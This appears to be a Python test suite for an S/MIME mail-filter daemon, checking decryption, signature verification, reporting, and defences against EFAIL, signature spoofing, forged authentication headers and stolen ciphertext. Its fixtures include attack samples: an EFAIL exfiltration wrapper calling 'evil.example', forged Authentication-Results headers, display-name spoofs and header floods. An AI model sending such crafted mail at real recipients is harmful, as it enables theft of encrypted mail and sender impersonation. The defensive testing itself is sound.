#!/usr/bin/env python3
"""inbound_test.py [-v] [WORD]...: mail that comes in, made by openssl, through
the daemon: opened, verified, reported; and each attack on that."""
import json
import os
import re
import sys

from harness import (COMMON, COMPLAINT, Tally, World, expect, words)
from inbound_mails import (ALICE, BOB, PAULA, TEXT, Maker, body_of,
                           broken_envelopes, flip, header, html, mixed,
                           multipart_signed, pkcs7_mime, values)

INBOUND = COMMON.replace(
    'stores = (', 'stores = (\n\t{ name = "book"; type = "managed"; },\n'
    '\t{ name = "down"; type = "ldap"; uri = "ldaps://127.0.0.1:1";\n'
    '\t  base = "dc=example,dc=com"; timeout_seconds = 1; },')
RULES = '''
inbound = (
	{ name = "hard"; recipient = "dave@example.com"; keys = "staff";
	  undecryptable = "reject"; bad_signature = "reject"; },
	{ name = "no"; recipient = "judy@example.com"; keys = "staff"; keys_for = "any";
	  undecryptable = "reject"; },
	{ name = "wait"; recipient = "gina@example.com"; keys = "staff"; keys_for = "any";
	  undecryptable = "tempfail"; bad_signature = "reject"; },
	{ name = "hold"; recipient = "henry@example.com"; keys = "staff"; keys_for = "any";
	  undecryptable = "quarantine"; bad_signature = "tempfail"; },
	{ name = "outer"; recipient = "ivan@example.com"; keys = "staff"; keys_for = "any";
	  bad_signature = "reject"; },
	{ name = "spare"; recipient = "erin@example.com"; keys = [ "staff", "down" ];
	  undecryptable = "reject"; },
	{ name = "strip"; recipient = "carol@example.com"; keys = "staff";
	  strip_signature = true; },
	{ name = "reader"; recipient = "reader@example.com"; },
	{ name = "any"; recipient = "team@example.com"; keys = "staff";
	  keys_for = "any"; weak_signatures = "pass"; legacy = true; },
	{ name = "house"; recipient = "*@example.com"; keys = "staff";
	  harvest = "book"; }
);
internal = "*@inside.example";
report = { authserv_id = "mx.example.com"; subject_tags = true; };
limits = { cms_layers = 3; decrypt_failures = 5; };
'''
PREFIX = 'X-SMIME-Milter-Info-'
CLIENTS = iter(range(1, 250))
ACCEPTED, REJECTED = 0, 1
STRICT = ['dave@example.com']


class Got:
    def __init__(self, world, status, printed, log):
        self.status, self.printed, self.log = status, printed, log
        self.message = world.read('out') if status == ACCEPTED else b''

    def results(self):
        return values(self.message, 'Authentication-Results')

    def verdict(self):
        ours = [v for v in self.results() if v.startswith('mx.example.com;')]
        expect(len(ours) == 1, 'results: %s' % self.results())
        return re.search(r'smime=(\w+)', ours[0])[1]

    def field(self, name):
        found = values(self.message, PREFIX + name)
        expect(len(found) <= 1, '%s stands %d times' % (name, len(found)))
        return found[0] if found else None


def send(world, message, to=(BOB,), sender=PAULA, client=None):
    out = world.path('out')
    if os.path.exists(out):
        os.unlink(out)
    start = os.path.getsize(world.path('daemon.log'))
    arguments = ['-s', world.socket, '--raw', '--replies', '-o', out,
                 '--client', client or '203.0.113.%d' % next(CLIENTS),
                 '--port', '1025', '-f', '<%s>' % sender]
    for recipient in to:
        arguments += ['-t', '<%s>' % recipient]
    status, printed = world.sim(*arguments, world.write('message', message))
    with open(world.path('daemon.log'), errors='replace') as log:
        log.seek(start)
        return Got(world, status, printed, log.read())


def answer(got):
    """What the sender is told; why it is held is not for him."""
    line = re.search(r'^VERDICT (.*)', got.printed, re.M)[1]
    return line.partition(': ')[0] if line.startswith('held') else line


def untouched(got, message):
    expect(got.status == ACCEPTED, got.printed)
    expect(body_of(got.message) == body_of(message), 'the body was changed')
    kept = {line for line in message.partition(b'\r\n\r\n')[0].split(b'\r\n')
            if line.lower().startswith(b'content-')}
    gone = kept - set(got.message.split(b'\r\n'))
    expect(not gone, '%r is gone' % sorted(gone)[:3])


def verdict_is(got, word):
    expect(got.verdict() == word, '%s\n%s' % (got.results(), got.log))


# ---- what it is for ----

def encrypted_and_signed_mail_is_opened_and_verified(world, make):
    got = send(world, header() + make.encrypted(make.detached()))
    verdict_is(got, 'pass')
    expect(body_of(got.message).startswith(b'--=-s\r\n' + TEXT),
           got.message.decode('latin1'))
    expect(values(got.message, 'Content-Type')[0].startswith(
        'multipart/signed'), 'the inner type')
    expect(not values(got.message, 'Content-Disposition') and
           not values(got.message, 'Content-Transfer-Encoding'),
           'outer fields stay')
    expect(got.field('Encryption-Algorithm-0') == 'AES256, Key size: 256',
           got.field('Encryption-Algorithm-0'))
    expect(got.field('Encryption-Authenticated-0') == 'True', 'authenticated')
    expect(re.fullmatch(r'CN=Example Intermediate,O=Example/[0-9a-f]+//'
                        r'1\.2\.840\.113549\.1\.1\.1',
                        got.field('Encryption-Recipient-0-0')),
           got.field('Encryption-Recipient-0-0'))
    expect(re.fullmatch(r'CN=Example Intermediate,O=Example/[0-9a-f]+/',
                        got.field('Signer-ID-0-1')), got.field('Signer-ID-0-1'))
    expect(got.field('Signer-Verified-0-1') == 'True', 'verified')
    expect(got.field('Signer-Trusted-0-1') == 'True', 'trusted')
    expect('body.smime-identifier=' + PAULA in got.results()[0], 'identifier')
    expect('inbound=house did=decrypt,verify' in got.log and
           'smime=pass' in got.log, got.log)


def signed_mail_arrives_byte_for_byte(world, make):
    for entity in (make.detached(), make.opaque()):
        message = header() + entity
        got = send(world, message)
        untouched(got, message)
        verdict_is(got, 'pass')


def every_cipher_and_key_is_opened(world, make):
    for cipher in ('-aes128', '-aes192', '-aes256', '-des3', '-aes-256-gcm'):
        got = send(world, header() + make.encrypted(TEXT, ('bob',), cipher))
        expect(body_of(got.message) == body_of(TEXT), cipher)
    for name in ('alice', 'carol', 'dave'):
        address = name + '@example.com'
        got = send(world, header(to=address) + make.encrypted(TEXT, (name,)),
                   to=[address])
        expect(body_of(got.message) == body_of(TEXT), name)


def an_expired_key_opens_old_mail(world, make):
    got = send(world, header() + make.encrypted(TEXT, ('frank-expired',)),
               to=['frank@example.com'])
    expect(body_of(got.message) == body_of(TEXT), got.log)


def layers_are_undone_from_the_outside_in(world, make):
    inner = make.opaque()
    message = header() + make.opaque(make.encrypted(inner))
    got = send(world, message)
    verdict_is(got, 'pass')
    expect(body_of(got.message) == body_of(inner), got.log)
    expect(got.field('Signer-ID-0-0') and got.field('Signer-ID-0-2') and
           got.field('Encryption-Algorithm-1'), 'levels')


def more_layers_than_the_limit_stay(world, make):
    entity = TEXT
    for _ in range(4):
        entity = make.opaque(entity)
    message = header() + entity
    got = send(world, message)
    untouched(got, message)
    expect(got.field('Signer-ID-0-2') and not got.field('Signer-ID-0-3'),
           'levels')


def lies_about_type_and_encoding_do_not_matter(world, make):
    der = make.envelope()
    lies = (pkcs7_mime(der, 'signed-data'),
            pkcs7_mime(der, 'enveloped-data').replace(
                b'application/pkcs7-mime', b'application/octet-stream'),
            pkcs7_mime(der, 'enveloped-data').replace(
                b'Content-Transfer-Encoding: base64\r\n', b''))
    for entity in lies:
        got = send(world, header() + entity)
        expect(body_of(got.message) == body_of(TEXT), got.log)


def strip_signature_takes_off_what_is_verified(world, make):
    to = ['carol@example.com']
    for entity in (make.detached(), make.opaque()):
        got = send(world, header() + entity, to=to)
        verdict_is(got, 'pass')
        expect(body_of(got.message) == body_of(TEXT) and
               values(got.message, 'Content-Type') ==
               ['text/plain; charset=utf-8'], got.message.decode('latin1'))
    message = header() + make.detached().replace(b'Moin', b'Mein')
    got = send(world, message, to=to)
    untouched(got, message)
    verdict_is(got, 'fail')


def what_is_no_entity_keeps_its_signature(world, make):
    """Its fields would become the mail's, or there are none."""
    for inside in (b'Subject: another\r\n' + TEXT,
                   b'From: %s\r\n' % ALICE.encode() + TEXT,
                   b'Content-Type: text/html\r\n' + TEXT,
                   b'no field\r\n' + TEXT, b'\r\n' + TEXT):
        for entity in (make.detached(inside), make.opaque(inside)):
            message = header() + entity
            got = send(world, message, to=['carol@example.com'])
            untouched(got, message)
            verdict_is(got, 'pass')


def plain_mail_only_gets_its_verdict(world, make):
    message = header() + TEXT
    got = send(world, message)
    untouched(got, message)
    verdict_is(got, 'none')
    expect(not re.search(PREFIX.encode(), got.message), 'fields of ours')


def mail_for_others_is_left_alone(world, make):
    message = header(to='x@elsewhere.example') + make.detached()
    got = send(world, message, to=['x@elsewhere.example'])
    expect(got.message == message, 'it was changed')


def a_rule_without_keys_verifies_and_opens_nothing(world, make):
    message = header() + make.encrypted()
    got = send(world, message, to=['reader@example.com'])
    untouched(got, message)
    verdict_is(got, 'none')
    got = send(world, header() + make.detached(), to=['reader@example.com'])
    verdict_is(got, 'pass')


def the_bounce_carries_no_more_than_the_header(world, make):
    got = send(world, header() + make.encrypted())
    expect(re.search(r'^chgfrom <%s>' % PAULA, got.printed, re.M),
           got.printed)
    got = send(world, header() + make.detached())
    expect('chgfrom' not in got.printed, got.printed)
    got = send(world, header() + make.encrypted(), sender='')
    expect('chgfrom' not in got.printed, got.printed)


def signers_are_harvested(world, make):
    book = world.path('state/stores/book/addresses')
    send(world, header() + make.detached())
    found = [name for _, _, names in os.walk(book) for name in names]
    expect([n for n in found if n.endswith('.harvested.der')] and
           len(found) == 1, str(found))


def untrusted_signers_are_not_harvested(world, make):
    send(world, header('untrusted@example.com') +
         make.detached(TEXT, ('untrusted',)))
    send(world, header(ALICE) + make.detached())
    send(world, header() + make.detached().replace(b'Moin', b'Mein'))
    book = world.path('state/stores/book/addresses')
    found = [name for where, _, names in os.walk(book) for name in names
             if 'paula' not in where]
    expect(not found, str(found))


def a_certificate_of_several_addresses_is_not_harvested(world, make):
    got = send(world, header('alice2@example.com') +
               make.detached(TEXT, ('several',)))
    verdict_is(got, 'pass')
    book = world.path('state/stores/book/addresses')
    found = [where for where, _, names in os.walk(book) if names]
    expect([where for where in found if 'paula' in where] and
           len(found) == 1, str(found))


def verify_and_decrypt_by_hand(world, make):
    path = world.write('by-hand', header() + make.encrypted(make.opaque()))
    code, out, err = world.ctl('--json', 'verify', path)
    told = json.loads(out)
    expect(code == 0 and told['verdict'] == 'pass' and
           told['identifier'] == PAULA, out + err)
    expect([layer['kind'] for layer in told['layers']] ==
           ['encrypted', 'signed'], out)
    signer = told['layers'][1]['signers'][0]
    expect(signer['addresses'] == [PAULA] and signer['verified'] and
           signer['trusted'] and told['rule'] is None and
           len(signer['sha256']) == 64, out)
    expect(told['layers'][0]['opened'] and
           told['layers'][0]['recipients'][0]['issuer'], out)
    code, out, err = world.ctl('verify', '--at', '2046-01-01', path)
    expect(code == 1 and 'smime        fail' in out, out + err)
    code, out, err = world.ctl('decrypt', '-o', world.path('opened'), path)
    expect(code == 0 and 'opened' in out, out + err)
    expect(b'signed-data' in world.read('opened'), 'the resulting mail')
    path = world.write('by-hand', header() + TEXT)
    expect(world.ctl('verify', path)[0] == 1, 'plain is no pass')
    expect(world.ctl('decrypt', path)[0] == 1, 'nothing to open')
    expect(world.ctl('verify', '--at', 'soon', path)[0] == 2, 'a bad time')
    expect(world.ctl('verify', world.path('nowhere'))[0] == 3, 'no file')


def smimectl_test_explains_inbound(world, make):
    path = world.write('by-hand', header() + make.encrypted(make.detached()))
    code, out, err = world.ctl('test', '-f', PAULA, '-t', BOB, path)
    for want in ('layer 0      encrypted, AES256: opened',
                 'layer 1      signed, detached: pass',
                 'verified yes', 'identifier   <%s>' % PAULA):
        expect(want in out, '%s\n%s%s' % (want, out, err))
    code, out, err = world.ctl('--json', 'test', '-f', PAULA, '-t', BOB, path)
    told = json.loads(out)
    expect(told['inbound']['verdict'] == 'pass' and told['changed'] and
           told['inbound']['rule'] == 'house', out)


def strangers_get_no_report(world, make):
    """Mail for the house and for others at once."""
    more = (b'X-SMIME-Milter-Info-Whatever: True\r\n'
            b'Authentication-Results: mx.example.com; smime=pass\r\n')
    message = header(more=more) + make.detached()
    got = send(world, message, to=[BOB, 'x@elsewhere.example'])
    untouched(got, message)
    expect(not got.results() and PREFIX.encode() not in got.message and
           values(got.message, 'Subject') == ['S'], got.message[:2000])
    got = send(world, message, to=[BOB, 'x@inside.example'])
    verdict_is(got, 'pass')
    expect(values(got.message, 'Subject') == ['[signed] S'],
           'an internal recipient')


def what_cannot_be_made_fit_is_delivered_and_noted(world, make):
    deep = TEXT + b'x' * 2000 + b'\r\n'
    for level in range(30):
        mark = b'=-%d' % level
        deep = (b'Content-Type: multipart/mixed; boundary="%s"\r\n\r\n--%s'
                b'\r\n%s\r\n--%s--\r\n' % (mark, mark, deep, mark))
    got = send(world, header() + make.encrypted(deep))
    expect(body_of(got.message) == body_of(deep), got.log)
    expect('not made fit for the way' in got.log, got.log)


# ---- what cannot be opened ----

def undecryptable_mail_arrives_byte_for_byte(world, make):
    message = header() + make.encrypted(TEXT, ('peter',))
    got = send(world, message)
    untouched(got, message)
    verdict_is(got, 'neutral')
    got = send(world, message, to=['dave@example.com'])
    expect(got.status == REJECTED and '550 5.7.5' in got.printed, got.printed)


def every_decryption_failure_looks_the_same(world, make):
    """To the sender whatever the rule says, and in what the reader gets: but
    for a broken signature, of which he is told."""
    bad = [*broken_envelopes(make),
           ('not for him', make.envelope(TEXT, ('peter',)))]
    for name, want in (('bob', 'accept'), ('ivan', 'accept'),
                       ('judy', '550 5.7.5'), ('gina', '451 4.7.5'),
                       ('henry', 'held 250')):
        answers, seen = set(), set()
        for label, der in bad:
            message = header() + pkcs7_mime(der, 'enveloped-data')
            got = send(world, message, to=[name + '@example.com'])
            answers.add(answer(got))
            expect('kind=' in got.log, '%s: %s' % (label, got.log))
            if want == 'accept' and 'signature' not in label:
                untouched(got, message)
                seen.add((*got.results(), got.printed.count('insheader')))
        expect(len(answers) == 1 and want in answers.pop(),
               '%s: %s' % (name, answers))
        expect(len(seen) == (want == 'accept'), '%s: %s' % (name, seen))


def bad_signature_speaks_of_what_nobody_has_encrypted(world, make):
    """Inside of an encrypted mail undecryptable does, whatever it says."""
    broken = make.detached().replace(b'Moin', b'Mein')
    for name, outer, inner in (('ivan', '550 5.7.7', 'accept'),
                               ('judy', 'accept', '550 5.7.5'),
                               ('gina', '550 5.7.7', '451 4.7.5')):
        to = [name + '@example.com']
        for entity, want in ((broken, outer), (make.encrypted(broken), inner)):
            got = send(world, header() + entity, to=to)
            expect(want in answer(got), '%s: %s' % (name, got.printed))
            if want == 'accept':
                verdict_is(got, 'fail')


def what_is_refused_is_not_opened(world, make):
    """Or the answer would depend on what is inside."""
    answers = set()
    for inside in (make.encrypted(), make.encrypted(TEXT, ('peter',))):
        entity = make.opaque(inside, ('paula',), '-noattr')
        got = send(world, header() + entity, to=['ivan@example.com'])
        expect('did=decrypt' not in got.log, got.log)
        answers.add(answer(got))
    expect(len(answers) == 1 and '550 5.7.7' in answers.pop(), str(answers))


def a_client_that_fails_often_is_barred_for_a_while(world, make):
    client = '198.51.100.7'
    bad = header() + pkcs7_mime(flip(make.envelope(), -17), 'enveloped-data')
    good = header() + make.encrypted()
    for _ in range(5):
        send(world, bad, client=client)
    got = send(world, good, client=client)
    untouched(got, good)
    expect('too many failures' in got.log, got.log)
    expect(body_of(send(world, good).message) == body_of(TEXT), 'others')


def mail_of_a_barred_client_waits_where_a_rule_is_strict(world, make):
    """Others may send by the same host: theirs is not refused for good."""
    client = '198.51.100.8'
    bad = header() + pkcs7_mime(flip(make.envelope(), -17), 'enveloped-data')
    good = header(to=STRICT[0]) + make.encrypted(TEXT, ('dave',))
    for _ in range(5):
        send(world, bad, client=client)
    got = send(world, good, to=STRICT, client=client)
    expect(got.status != ACCEPTED and '451 4.3.0' in got.printed, got.printed)
    expect(body_of(send(world, good, to=STRICT).message) == body_of(TEXT),
           'others')


def a_broken_signature_inside_is_answered_as_a_failure_to_decrypt(world,
                                                                  make):
    changed = make.detached().replace(b'Moin', b'Mein')
    opened = header(to=STRICT[0]) + make.encrypted(changed, ('dave',))
    closed = header(to=STRICT[0]) + make.encrypted(TEXT, ('peter',))
    replies = set()
    for message in (opened, closed):
        got = send(world, message, to=STRICT)
        replies.add(re.search(r'550 .*', got.printed)[0])
    expect(len(replies) == 1 and '5.7.5' in replies.pop(), str(replies))


def a_broken_signature_inside_counts_as_a_failure_to_decrypt(world, make):
    client = '198.51.100.9'
    changed = make.detached().replace(b'Moin', b'Mein')
    for _ in range(5):
        got = send(world, header() + make.encrypted(changed), client=client)
        verdict_is(got, 'fail')
    good = header() + make.encrypted()
    got = send(world, good, client=client)
    untouched(got, good)
    expect('too many failures' in got.log, got.log)


def broken_and_unknown_cms_is_never_lost(world, make):
    der = make.envelope()
    for bad in (der[:100], der[:-20], b'0\x80\x06\x00', b'text'):
        message = header() + pkcs7_mime(bad, 'enveloped-data')
        untouched(send(world, message), message)
    signed = make.signature(TEXT, ('paula',), '-nodetach')
    message = header() + pkcs7_mime(signed[:-30], 'signed-data')
    untouched(send(world, message), message)


# ---- stolen ciphertext ----

def stolen_ciphertext_is_not_opened_for_a_stranger(world, make):
    message = header() + make.encrypted(TEXT, ('bob',))
    for to in ([ALICE], [ALICE, BOB], [BOB, 'reader@example.com'],
               [BOB, 'x@elsewhere.example']):
        got = send(world, message, to=to)
        untouched(got, message)
        expect('did=decrypt' not in got.log, got.log)


def an_added_recipient_does_not_open_others_mail(world, make):
    """His RecipientInfo names his key; what it holds is not the mail's."""
    mine = make.envelope(TEXT, ('alice', 'bob'))
    at = mine.index(b'\x04\x82\x01\x00') + 4
    forged = mine[:at] + bytes(256 * [7]) + mine[at + 256:]
    message = header() + pkcs7_mime(forged, 'enveloped-data')
    for to in ([ALICE, BOB], [BOB, ALICE]):
        untouched(send(world, message, to=to), message)
    got = send(world, header() + pkcs7_mime(mine, 'enveloped-data'),
               to=[ALICE, BOB])
    expect(body_of(got.message) == body_of(TEXT), got.log)


def only_the_key_that_opened_the_mail_counts_for_the_next_one(world, make):
    """All keys are the team's; who has one that does not open is no reader."""
    mine = make.envelope(TEXT, ('alice', 'bob'))
    at = -1
    for _ in range(2):
        at = mine.index(b'\x04\x82\x01\x00', at + 1) + 4
        forged = mine[:at] + bytes(256 * [7]) + mine[at + 256:]
        message = header() + pkcs7_mime(forged, 'enveloped-data')
        opened = [to for to in (ALICE, BOB) if 'did=decrypt' in send(
            world, message, to=['team@example.com', to]).log]
        expect(len(opened) == 1, 'opened for %s' % opened)


def any_key_opens_for_everybody_of_its_rule(world, make):
    got = send(world, header() + make.encrypted(), to=['team@example.com'])
    expect(body_of(got.message) == body_of(TEXT), got.log)


# ---- EFAIL ----

def efail_a_changed_first_block_is_not_released(world, make):
    der = make.envelope(b'Content-Type: text/plain\r\n\r\nsecret words\r\n')
    at = der.index(bytes.fromhex('060960864801650304012a0410')) + 13
    for byte in (0, 7, 15):
        message = header() + pkcs7_mime(flip(der, at + byte),
                                        'enveloped-data')
        got = send(world, message)
        if 'did=decrypt' in got.log:
            expect(b'secret words' in got.message and
                   got.field('Encryption-Authenticated-0') == 'False',
                   'not marked')
        else:
            untouched(got, message)


def efail_direct_exfiltration_a_part_is_left_alone(world, make):
    message = header() + mixed(html(b'<img src="http://evil.example/'),
                               make.encrypted(), html(b'">'))
    got = send(world, message)
    untouched(got, message)
    verdict_is(got, 'none')
    expect(b'Moin' not in got.message, 'it was opened')


def efail_cbc_without_a_signature_is_marked(world, make):
    got = send(world, header() + make.encrypted())
    expect(got.field('Encryption-Authenticated-0') == 'False', 'not marked')
    expect(values(got.message, 'Subject') == [
        '[encrypted, not authenticated] S'], values(got.message, 'Subject'))
    got = send(world, header() + make.encrypted(TEXT, ('bob',),
                                                '-aes-256-gcm'))
    expect(got.field('Encryption-Authenticated-0') == 'True', 'marked')


def efail_an_injected_header_is_not_released(world, make):
    message = header() + make.encrypted(
        b'X-Evil: injected\r\nContent-Type: text/plain\r\n\r\nx\r\n')
    untouched(send(world, message), message)


# ---- "Johnny, you are fired" ----

def c1_content_inside_a_detached_signature_is_refused(world, make):
    der = make.signature(TEXT, ('paula',), '-nodetach')
    message = header() + multipart_signed(TEXT, der)
    got = send(world, message)
    untouched(got, message)
    verdict_is(got, 'fail')


def c2_one_good_signer_of_two_is_not_enough(world, make):
    der = make.signature(TEXT, ('paula', 'alice'))
    verdict_is(send(world, header() + multipart_signed(TEXT, der)), 'pass')
    got = send(world, header() + multipart_signed(TEXT, flip(der, -5)))
    verdict_is(got, 'fail')


def c3_certificates_alone_are_no_signature(world, make):
    der = make.certs_only()
    for entity in (pkcs7_mime(der, 'signed-data'),
                   pkcs7_mime(der, 'certs-only')):
        message = header() + entity
        got = send(world, message)
        untouched(got, message)
        verdict_is(got, 'none')
    got = send(world, header() + multipart_signed(TEXT, der))
    expect(got.verdict() != 'pass', got.results())
    expect(got.field('Signer-Verified-0-0') is None, 'a signer')


def c4_only_our_anchors_are_trusted(world, make):
    for name in ('selfsigned', 'untrusted', 'late', 'frank-expired',
                 'wrong-eku'):
        author = 'frank' if name.startswith('frank') else name
        got = send(world, header(author + '@example.com') +
                   make.detached(TEXT, (name,)))
        verdict_is(got, 'fail')
        expect(got.field('Signer-Verified-0-0') == 'True' and
               got.field('Signer-Trusted-0-0') == 'False' and
               got.field('Signer-Trusted-Info-0-0'), name)


def c5_a_signature_without_signed_attributes_is_refused(world, make):
    verdict_is(send(world, header() + make.detached(TEXT, ('paula',),
                                                    '-noattr')), 'fail')


def m1_a_signed_part_says_nothing_about_the_mail(world, make):
    for entity in (mixed(make.detached(), html(b'unsigned')),
                   mixed(html(b'unsigned'), make.detached())):
        verdict_is(send(world, header() + entity), 'none')


def m2_a_signed_part_hidden_by_others_says_nothing(world, make):
    """HTML that shows the signed part, or hides it, by cid: or by style."""
    signed = make.detached().replace(
        b'Content-Type:', b'Content-ID: <s@x>\r\nContent-Type:', 1)
    for first in (html(b'<iframe src="cid:s@x" style="display:none">'),
                  html(b'unsigned<div style="display:none">')):
        for kind in (b'related', b'alternative'):
            message = header() + mixed(first, signed).replace(
                b'multipart/mixed', b'multipart/' + kind, 1)
            got = send(world, message)
            untouched(got, message)
            verdict_is(got, 'none')
            expect(got.field('Signer-Verified-0-0') is None, 'a signer')


def m4_an_old_signed_mail_wrapped_in_a_new_one_is_not_the_mails(world, make):
    """Not even when the wrapping is signed by somebody else."""
    old = (b'Content-Type: message/rfc822\r\n\r\n' + header() +
           make.detached().replace(b'=-s', b'=-o'))
    got = send(world, header() + make.detached(old, ('alice',)))
    verdict_is(got, 'policy')
    expect(got.field('Signer-ID-0-0') and not got.field('Signer-ID-0-1'),
           'the signer of what was forwarded')


def a_fragment_is_never_opened(world, make):
    """message/partial (RFC 2046 5.2.2): what it will become is not known."""
    message = (header() + b'Content-Type: message/partial; id="x"; number=1; '
               b'total=2\r\n\r\n' + make.encrypted())
    got = send(world, message)
    untouched(got, message)
    verdict_is(got, 'none')


def m3_a_signature_in_a_forwarded_message_is_not_the_mails(world, make):
    forwarded = (b'Content-Type: message/rfc822\r\n\r\n' + header() +
                 make.detached())
    for entity in (forwarded, mixed(forwarded)):
        verdict_is(send(world, header() + entity), 'none')


def a_third_part_or_text_around_makes_it_neutral(world, make):
    der = make.signature(TEXT)
    for entity in (multipart_signed(TEXT, der, third=html(b'unsigned')),
                   multipart_signed(TEXT, der, before=html(b'Read this.\r\n')),
                   multipart_signed(TEXT, der, after=b'Read this.\r\n')):
        message = header() + entity
        got = send(world, message)
        untouched(got, message)
        verdict_is(got, 'neutral')


def i1_the_signer_must_be_the_author(world, make):
    got = send(world, header(ALICE) + make.detached())
    verdict_is(got, 'policy')
    expect(got.field('Signer-Verified-0-0') == 'True', 'verified')
    expect(got.field('Signer-Trusted-0-0') == 'False' and
           'From' in got.field('Signer-Trusted-Info-0-0'), 'trusted')


def i2_from_must_be_one_mailbox(world, make):
    for head in (header(PAULA, more=b'From: %s\r\n' % ALICE.encode()),
                 header('%s, %s' % (PAULA, ALICE)),
                 header('"%s" <%s>' % (PAULA, ALICE)),
                 header('%s (%s)' % (ALICE, PAULA))):
        verdict_is(send(world, head + make.detached()), 'policy')


def i2_a_display_name_is_no_address(world, make):
    for name in ('"%s" <%s>', '=?utf-8?q?%s?= <%s>', '%s\u200b <%s>',
                 '(%s) <%s>', '"%s\\" <x@y>" <%s>'):
        head = header(name % (PAULA.replace('@', '=40' if '?q?' in name
                                            else '@'), ALICE))
        got = send(world, head + make.detached())
        verdict_is(got, 'policy')
        expect(got.field('Signer-Trusted-0-0') == 'False', name)


def i3_sender_and_reply_to_do_not_count(world, make):
    more = b'Sender: %s\r\nReply-To: %s\r\n' % (PAULA.encode(), PAULA.encode())
    verdict_is(send(world, header(ALICE, more=more) + make.detached()),
               'policy')


def u1_forged_fields_are_removed(world, make):
    more = (b'X-SMIME-MILTER-INFO-Signer-Trusted-0-0: True\r\n'
            b'x-smime-milter-info-signer-trusted-0-0: True\r\n'
            b'X-SMIME-Milter-Info-Whatever: True\r\n'
            b'X-SMIME-Milter-Info: True\r\n')
    for entity in (TEXT, make.detached(), make.encrypted()):
        got = send(world, header(more=more) + entity)
        for name, value in (('Signer-Trusted-0-0', 'x'), ('Whatever', 'x')):
            found = got.field(name)
            expect(entity is not TEXT or found is None, name)
        expect(b'Whatever' not in got.message and
               b'X-SMIME-MILTER' not in got.message, 'forged')


def u1_forged_results_are_removed_in_every_spelling(world, make):
    forged = (b'mx.example.com; smime=pass', b'MX.Example.COM; SMIME=pass',
              b'"mx.example.com" ; smime=pass',
              b'mx.example.com 1; smime=pass',
              b'(c) mx.example.com (d(e)) ; (f) smime (g) = pass',
              b'\r\n mx.example.com\r\n ;\r\n smime=pass',
              b'mx.example.com; smime/1=pass',
              b'mx.example.com; "smime"=pass',
              b'mx.example.com; dkim=pass; smime=pass; spf=none')
    more = b''.join(b'Authentication-Results: %s\r\n' % f for f in forged)
    kept = b'Authentication-Results: other.example; smime=pass\r\n'
    got = send(world, header(more=more + kept) + TEXT)
    rest = got.results()
    expect(rest.pop(0) == 'mx.example.com; smime=none', str(rest))
    expect(rest == ['mx.example.com; dkim=pass; spf=none',
                    'other.example; smime=pass'], str(rest))


def u1_look_alikes_of_the_tags_lose_their_brackets(world, make):
    for subject in ('[signed] x', '[Signed]x', '=?utf-8?Q?=5Bsigned=5D?= x',
                    '=?utf-8?B?W3NpZ25lZF0=?=', '[sig=?us-ascii?q?ned]?=',
                    'Re: [ signed ]'):
        got = send(world, header(subject=subject) + TEXT)
        out = values(got.message, 'Subject')[0]
        expect('[' not in out and '=5B' not in out and 'W3Np' not in out, out)
    got = send(world, header(subject='[list] x') + make.detached())
    expect(values(got.message, 'Subject') == ['[signed] [list] x'],
           values(got.message, 'Subject'))


def u1_forged_fields_without_end_are_refused(world, make):
    for more in (b''.join(b'X-SMIME-Milter-Info-%d: x\r\n' % n
                          for n in range(20000)),
                 b'Authentication-Results: mx.example.com; smime=pass\r\n' *
                 200):
        got = send(world, header(more=more) + TEXT)
        expect(got.status == REJECTED and '550 5.6.0' in got.printed,
               got.printed[-300:])


def nothing_is_harvested_from_a_mail_that_is_refused(world, make):
    book = world.path('state/stores/book/addresses')
    before = [where for where, _, names in os.walk(book) if names]
    more = b'Authentication-Results: mx.example.com; smime=pass\r\n' * 200
    got = send(world, header('any-eku@example.com', more=more) +
               make.detached(TEXT, ('any-eku',)))
    expect(got.status == REJECTED, got.printed[-300:])
    after = [where for where, _, names in os.walk(book) if names]
    expect(before == after, str(after))


def content_fields_without_end_are_not_opened(world, make):
    many = b''.join(b'Content-X%d: x\r\n' % n for n in range(20000))
    message = header(more=many) + make.encrypted()
    untouched(send(world, message), message)
    message = header() + make.encrypted(many + TEXT)
    untouched(send(world, message), message)


# ---- what is weak ----

def sha1_and_short_keys_are_policy_with_a_setting(world, make):
    for names, more in ((('paula',), ('-md', 'sha1')), (('weak',), ())):
        head = header(PAULA if names == ('paula',) else 'weak@example.com')
        entity = make.detached(TEXT, names, *more)
        got = send(world, head + entity)
        verdict_is(got, 'policy')
        expect(got.field('Signer-Trusted-0-0') == 'False' and
               'weak' in got.field('Signer-Trusted-Info-0-0'), 'trusted')
        got = send(world, head + entity, to=['team@example.com'])
        verdict_is(got, 'pass')
        expect(got.field('Signer-Trusted-0-0') == 'True', 'not trusted')


def a_bad_signature_goes_by_its_setting(world, make):
    message = header() + make.detached().replace(b'Moin', b'Mein')
    got = send(world, message)
    untouched(got, message)
    verdict_is(got, 'fail')
    got = send(world, message, to=['dave@example.com'])
    expect(got.status == REJECTED and '550 5.7.7' in got.printed, got.printed)
    got = send(world, header(ALICE) + make.detached(),
               to=['dave@example.com'])
    verdict_is(got, 'policy')


def a_signature_that_cannot_be_read_goes_by_the_same(world, make):
    """Whoever can break it can also make it nothing at all."""
    der = make.signature(TEXT)
    torn = multipart_signed(TEXT, der[:40] + bytes(len(der) - 40))
    three = multipart_signed(TEXT, der, third=html(b'more'))
    client = '198.51.100.77'
    for label, entity in (('torn', torn), ('three', three)):
        got = send(world, header() + entity, to=STRICT, client=client)
        expect('550 5.7.7' in answer(got), '%s: %s' % (label, got.log))
        inside = make.encrypted(entity, ('dave',))
        got = send(world, header() + inside, to=STRICT, client=client)
        expect('550 5.7.5' in answer(got), '%s in: %s' % (label, got.log))
        got = send(world, header() + entity, client=client)
        untouched(got, header() + entity)


def a_directory_that_is_down_makes_no_signature_bad(world, make):
    """Whether it knows the signer's certificate nobody can say now."""
    message = (header('who@partner.example', to=STRICT[0]) +
               make.detached(TEXT, ('paula',), '-nocerts'))
    got = send(world, message, to=STRICT)
    untouched(got, message)
    verdict_is(got, 'temperror')


def a_directory_that_is_down_may_have_the_key_that_opens(world, make):
    to = ['erin@example.com']
    good = header(to=to[0]) + make.encrypted(TEXT, ('erin-encrypt',))
    expect(body_of(send(world, good, to=to).message) == body_of(TEXT), 'good')
    bad = header(to=to[0]) + pkcs7_mime(
        flip(make.envelope(TEXT, ('erin-encrypt',)), -17), 'enveloped-data')
    got = send(world, bad, to=to)
    expect(got.status != ACCEPTED and '451 4.3.0' in got.printed, got.printed)


TESTS = [
    a_directory_that_is_down_may_have_the_key_that_opens,
    encrypted_and_signed_mail_is_opened_and_verified,
